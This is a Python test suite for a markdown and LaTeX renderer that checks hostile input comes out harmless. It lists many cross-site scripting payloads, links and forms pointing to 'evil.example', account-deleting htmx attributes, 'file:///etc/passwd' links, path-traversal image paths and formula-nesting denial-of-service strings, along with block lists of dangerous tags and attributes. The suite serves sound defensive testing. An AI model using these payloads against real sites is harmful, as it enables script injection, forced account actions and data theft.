"""Nothing that runs, fetches, names itself or hangs comes out, whatever goes in."""

import re
import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cards.markup import render
from tests.pace import promised

from .reading import attributes_of, elements, scheme_of, tags

TAGS_THAT_ACT = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "textarea",
    "select", "link", "meta", "base", "svg", "video", "audio", "source", "template", "details",
    "dialog", "annotation", "annotation-xml", "semantics", "maction", "mglyph",
}  # fmt: skip
ATTRIBUTE_THAT_ACTS = re.compile(
    r"on.*|id|name|hx-.*|data-.*|srcset|srcdoc|formaction|action|target|ping|background|poster"
    r"|xlink:.*|xmlns.*|tabindex|autofocus|contenteditable|popover.*|is|slot|part|actiontype"
)
SAFE_SCHEMES = {None, "http", "https", "mailto"}
OWN_IMAGE = re.compile(r"/static/diagrams/[\w./-]+\.svg")

RAW_HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<b onclick='alert(1)'>press</b>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a id=account-form name=csrfmiddlewaretoken>x</a>",
    "<div hx-get=/account/delete hx-trigger=load>x</div>",
    "<div data-hx-post=/account/delete data-action=grade>x</div>",
    "<form action=//evil.example><input name=password></form>",
    "<style>body { display: none }</style>",
    "<p style='position: fixed; inset: 0'>x</p>",
    "<td style='background: url(//evil.example)'>x</td>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0; //evil.example'>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div\n\nonmouseover=alert(1)>\n\n</div>",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://a.example "\\" onclick=alert(1) x=\\"")',
    '[x](https://a.example/"onclick=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
]
IMAGES = [
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.svg)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    "![x](/account/sign-out/)",
    "![x](/media/x.svg)",
    "![x](/static/diagrams/../../account/sign-out/x.svg)",
    "![x](/static/diagrams/%2e%2e/x.svg)",
    "![x](/static/diagrams/a.svg?at=//evil.example)",
    "![x](/static/diagrams/a.svg#x)",
    "![x](https://evil.example/static/diagrams/a.svg)",
    '![" onerror=alert(1) x="](/x.png)',
]
FORMULAS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\nosuch<img src=x onerror=alert(1)>$",
    r"$\class{evil}{x}$",
    r"$\cssId{evil}{x}$",
    r"$\style{position:fixed}{x}$",
    r"$\label{evil}x$",
    r"$\includegraphics{//evil.example/x.png}$",
    r"$\def\a{\a\a}\a$",
    "$</math><script>alert(1)</script>$",
    "$$\n</math><img src=x onerror=alert(1)>\n$$",
    "$$x$$ (evil)",
]
CODE = [
    "```html\n<script>alert(1)</script>\n```",
    "```nosuch\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onclick=alert(1) {#id .class}\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
]
HOSTILE = [*RAW_HTML, *LINKS, *IMAGES, *FORMULAS, *CODE]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_text_comes_out_harmless(source: str) -> None:
    _assert_harmless(render(source))


@pytest.mark.parametrize(
    "wrapped", ["> {}", "- {}", "|a|\n|-|\n|{}|", "**{}**", "# {}", "[{}](/x)"]
)
@pytest.mark.parametrize("source", [*RAW_HTML[:6], *LINKS[:6], *IMAGES[:3], *FORMULAS[:3]])
def test_hostile_text_is_harmless_in_every_other_thing(wrapped: str, source: str) -> None:
    _assert_harmless(render(wrapped.format(source)))


@given(st.lists(st.sampled_from(HOSTILE) | st.text(max_size=12), max_size=6).map("".join))
def test_no_mixture_of_hostile_texts_is_harmful(source: str) -> None:
    _assert_harmless(render(source))


@pytest.mark.parametrize("source", RAW_HTML)
def test_raw_html_is_shown_as_text(source: str) -> None:
    assert tags(render(source)) <= {"p"}
    assert "&lt;" in render(source)


@pytest.mark.parametrize(
    ("address", "scheme"),
    [
        ("JavaScript:x", "javascript"),
        (" \x01java\tscr\nipt:x", "javascript"),
        ("data:text/html,x", "data"),
        ("java%09script:x", None),  # a relative address: % is no part of a scheme
        ("/a:b", None),
        ("//evil.example", None),
    ],
)
def test_scheme_is_read_as_a_browser_reads_it(address: str, scheme: str | None) -> None:
    assert scheme_of(address) == scheme


@pytest.mark.parametrize("source", IMAGES)
def test_image_from_elsewhere_is_not_fetched(source: str) -> None:
    assert all("src" not in attributes for attributes in attributes_of(render(source), "img"))


@pytest.mark.parametrize(
    "source",
    [r"$\color{red}{x}$", r"$\textcolor{red}{x}$", r"$$\colorbox{red}{x}$$", r"$\boxed{x}$"],
)
def test_formula_brings_no_style(source: str) -> None:
    assert "style=" not in render(source)


@pytest.mark.parametrize(
    "formula",
    [
        "{" * 900 + "x" + "}" * 900,
        r"\sqrt{" * 280 + "x" + "}" * 280,
        r"\frac{" * 250,
        "x_{" * 600,
        r"\left(" * 300,
        r"\text{" * 300,
        r"\begin{matrix}" * 140,
        "^" * 2000,
        "&" * 2000,
    ],
    ids=["braces", "roots", "fractions", "indices", "left", "text", "matrices", "hats", "cells"],
)
def test_deeply_nested_formula_does_no_harm(formula: str) -> None:
    _assert_harmless(render(f"${formula}$"))


NESTED_ON_A_SMALL_STACK = r"""
import threading
from cards.markup import render
from tests.pace import promised

KINDS = [
    ("{", "}"), ("\\sqrt", ""), ("\\sqrt{", "}"), ("\\frac{1}{", "}"), ("\\frac1", ""),
    ("x_{", "}"), ("\\left(", "\\right)"), ("\\hat", ""), ("\\mathbf", ""), ("\\text{", "}"),
    ("\\begin{matrix}", "\\end{matrix}"), ("\\frac{a}", ""), ("\\sqrt{\\hat", "}"),
    ("\\frac1{", "}"), ("\\overset{a}", ""), ("\\hat\\frac{a}{", "}"), ("\\sqrt[", "]"),
    ("\\sqrt[3]", ""), ("\\substack{", "}"), ("\\left\\{", "\\right."),
]

def nest():
    for opens, closes in KINDS:
        for depth in (5, 10, 20, 30, 40, 60, 100, 300, 900):
            render("$" + opens * depth + "x" + closes * depth + "$")

threading.stack_size(128 * 1024)
thread = threading.Thread(target=nest)
thread.start()
thread.join()
print("whole")
"""


def test_no_nesting_overflows_even_a_small_stack() -> None:
    program = [sys.executable, "-c", NESTED_ON_A_SMALL_STACK]
    done = subprocess.run(program, capture_output=True, text=True)
    assert done.stdout == "whole\n", done.stderr[-500:]


@pytest.mark.parametrize(
    "formula",
    [
        r"\sqrt{1+\sqrt{2+\sqrt{3+\sqrt{4+\sqrt{5+\cdots}}}}}",
        r"\cfrac{1}{1+\cfrac{1}{1+\cfrac{1}{1+\cfrac{1}{1+x}}}}",
        r"\mathcal{L}=-\mathbb{E}_{(x,y_w,y_l)}\left[\log\sigma\left(\beta\log\frac{\pi_\theta(y_w|x)}{\pi_{ref}(y_w|x)}\right)\right]",
        r"\begin{pmatrix}" + r"\\".join([r"\alpha&\beta&\gamma&\delta"] * 4) + r"\end{pmatrix}",
    ],
)
def test_what_people_write_is_not_too_deep(formula: str) -> None:
    assert "formula-error" not in render(f"$${formula}$$")


def test_formula_gets_no_label_to_link_to() -> None:
    assert "a" not in tags(render("$$\nx\n$$ (label)"))


def test_formula_inside_a_formula_is_not_one() -> None:
    rendered = render(r"$a \text{ and $b$ } c$")
    _assert_harmless(rendered)
    assert "<math><math" not in rendered


@pytest.mark.parametrize("length", [2001, 3000])
def test_formula_that_is_too_long_is_shown_as_it_was_written(length: int) -> None:
    rendered = render("$" + "x" * length + "$")
    assert '<span class="formula-error">' + "x" * length + "</span>" in rendered
    assert "math" not in tags(rendered)


def test_formula_of_the_greatest_length_is_still_a_formula() -> None:
    assert "math" in tags(render("$" + "x" * 2000 + "$"))


def test_formula_that_cannot_be_read_is_shown_escaped() -> None:
    rendered = render(r"$\nosuch<b>$")
    assert r'<span class="formula-error">\nosuch&lt;b&gt;</span>' in rendered


def test_nul_becomes_the_replacement_character() -> None:
    assert render("a\x00b") == "<p>a\ufffdb</p>\n"


@pytest.mark.parametrize(
    "source",
    [
        "[" * 20_000,
        "![" * 10_000,
        "[a](" * 5_000,
        "(" * 20_000,
        "*a " * 7_000,
        "_a" * 10_000,
        "`" * 20_000,
        "$a " * 7_000,
        "$" * 20_000,
        ">" * 20_000,
        "<" * 20_000,
        "|" * 10_000 + "\n" + "|-" * 5_000,
        "\n".join("  " * depth + "- x" for depth in range(200)),
    ],
    ids=lambda source: f"{source[:4]!r}…",
)
def test_long_and_hostile_text_is_rendered_in_under_two_seconds(source: str) -> None:
    _assert_harmless(promised(2, lambda: render(source)))


def _assert_harmless(rendered: str) -> None:
    assert "\x00" not in rendered
    for tag, attributes in elements(rendered):
        assert tag not in TAGS_THAT_ACT
        for name, value in attributes.items():
            assert not ATTRIBUTE_THAT_ACTS.fullmatch(name), (tag, name)
            if name == "style":
                assert tag in {"td", "th"}
                assert re.fullmatch(r"text-align: ?(left|center|right);?", value)
            if name == "href":
                assert scheme_of(value) in SAFE_SCHEMES, value
            if name == "src":
                assert OWN_IMAGE.fullmatch(value), value
